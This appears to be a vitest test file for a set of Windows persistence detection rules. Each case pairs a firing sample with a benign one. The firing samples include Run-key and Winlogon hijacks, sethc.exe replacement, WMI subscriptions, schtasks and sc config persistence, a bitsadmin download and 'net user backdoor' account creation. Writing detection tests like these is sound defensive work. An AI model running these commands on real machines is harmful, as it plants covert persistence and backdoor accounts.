import { describe } from 'vitest';
import { testRuleCases } from '../../testing/rule-cases.ts';
import {
  fileWrite,
  POWERSHELL,
  proc,
  registry,
  script,
  system,
  taskRegistered,
} from '../../testing/rule-test-events.ts';
import { PERSISTENCE_RULES } from './persistence-rules.ts';

const HKLM_RUN = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
const SVCHOST = () => proc('C:\\Windows\\System32\\svchost.exe');
const SERVICES = () => proc('C:\\Windows\\System32\\services.exe');

describe('persistence rules', () => {
  testRuleCases(PERSISTENCE_RULES, [
    {
      rule: 'run-key-value',
      fires: registry(HKLM_RUN, 'C:\\Users\\Public\\upd.exe'),
      quiet: registry('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunTime\\x', '1'),
    },
    {
      rule: 'run-key-command',
      fires: system(
        'reg.exe',
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d c:\\u.exe',
      ),
      quiet: system('reg.exe', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'),
    },
    {
      rule: 'startup-folder-drop',
      fires: fileWrite(
        'C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start' +
          ' Menu\\Programs\\Startup\\u.lnk',
      ),
      quiet: fileWrite(
        'C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start' +
          ' Menu\\Programs\\Accessories\\u.lnk',
      ),
    },
    {
      rule: 'winlogon-helper',
      fires: registry(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit',
        'C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe',
      ),
      quiet: registry(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\AutoRestartShell',
        '1',
      ),
    },
    {
      rule: 'ifeo-debugger',
      fires: registry(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution' +
          ' Options\\notepad.exe\\Debugger',
        'C:\\Users\\Public\\u.exe',
      ),
      quiet: registry(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution' +
          ' Options\\notepad.exe\\MitigationOptions',
        '0x100',
      ),
    },
    {
      rule: 'accessibility-binary-replaced',
      fires: fileWrite('C:\\Windows\\System32\\sethc.exe', proc('C:\\Windows\\System32\\cmd.exe')),
      quiet: fileWrite(
        'C:\\Windows\\System32\\sethc.exe',
        proc('C:\\Windows\\servicing\\TrustedInstaller.exe'),
      ),
    },
    {
      rule: 'wmi-event-subscription',
      fires: script(
        "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='x'}",
      ),
      quiet: script('Get-WmiObject -Class Win32_OperatingSystem'),
    },
    {
      rule: 'com-hijack-user-clsid',
      fires: registry(
        'HKU\\S-1-5-21-1-2-3-1104_Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocS' +
          'erver32',
        'C:\\Users\\ann\\AppData\\x.dll',
      ),
      quiet: registry(
        'HKU\\S-1-5-21-1-2-3-1104_Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocS' +
          'erver32',
        'C:\\Windows\\System32\\x.dll',
        SVCHOST(),
      ),
    },
    {
      rule: 'scheduled-task-create',
      fires: system('schtasks.exe', 'schtasks /Create /F /SC DAILY /TN Updater /TR c:\\u.exe'),
      quiet: system('schtasks.exe', 'schtasks /Query /FO LIST'),
    },
    {
      rule: 'service-install-command',
      fires: system('sc.exe', 'sc config Fax binPath= "C:\\windows\\system32\\cmd.exe /c calc"'),
      quiet: system('sc.exe', 'sc query Fax'),
    },
    {
      rule: 'service-image-path-edited',
      fires: registry('HKLM\\System\\CurrentControlSet\\Services\\Fax\\ImagePath', 'c:\\u.exe'),
      quiet: registry(
        'HKLM\\System\\CurrentControlSet\\Services\\Fax\\ImagePath',
        'c:\\u.exe',
        SERVICES(),
      ),
    },
    {
      rule: 'service-runs-shell-command',
      fires: registry(
        'HKLM\\System\\CurrentControlSet\\Services\\tbbd05\\ImagePath',
        '%COMSPEC% /c echo b6a1458f396 > \\\\.\\pipe\\334485',
        SERVICES(),
      ),
      quiet: registry(
        'HKLM\\System\\CurrentControlSet\\Services\\Fax\\ImagePath',
        '%SystemRoot%\\system32\\fxssvc.exe',
        SERVICES(),
      ),
    },
    {
      rule: 'bits-job',
      fires: system(
        'bitsadmin.exe',
        'bitsadmin.exe /transfer /Download /priority Foreground https://x.example/a C:\\Temp\\a',
      ),
      quiet: system('bitsadmin.exe', 'bitsadmin.exe /list /allusers'),
    },
    {
      rule: 'local-account-created',
      fires: system('net.exe', 'net user backdoor P@ssw0rd /add'),
      quiet: system('net.exe', 'net user backdoor'),
    },
    {
      rule: 'account-added-to-admins',
      fires: system('net.exe', 'net localgroup administrators backdoor /add'),
      quiet: system('net.exe', 'net localgroup users backdoor /add'),
    },
    {
      rule: 'netsh-helper-dll',
      fires: system('netsh.exe', 'netsh add helper C:\\Users\\Public\\h.dll'),
      quiet: system('netsh.exe', 'netsh show helper'),
    },
  ]);

  testRuleCases(
    PERSISTENCE_RULES.filter((rule) => rule.id === 'scheduled-task-create'),
    [
      {
        rule: 'scheduled-task-create',
        fires: taskRegistered('\\Updater'),
        quiet: script('Get-ScheduledTask -TaskName Updater', POWERSHELL()),
      },
    ],
  );
});
